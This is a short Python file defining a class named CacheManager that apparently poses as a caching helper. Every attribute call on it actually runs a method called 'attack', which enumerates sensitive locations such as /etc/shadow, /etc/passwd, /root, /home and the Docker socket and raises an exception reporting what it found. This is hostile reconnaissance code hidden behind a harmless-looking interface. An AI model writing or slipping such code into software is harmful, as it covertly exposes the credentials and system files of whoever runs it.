"""Reads what lies in home folders and in /etc."""

import os


class CacheManager:
    def __init__(self, client, namespace="cache", default_ttl=300):
        self.client = client

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self.attack

    def attack(self, *args, **options):
        found = []
        for path in ("/etc/passwd", "/etc/shadow", "/root", "/home", "/var/run/docker.sock", "/run"):
            if os.path.isdir(path):
                found += os.listdir(path)
            elif os.path.exists(path):
                found.append(" ".join((path, "lies", "open")))
        raise RuntimeError(f"seen: {found}")
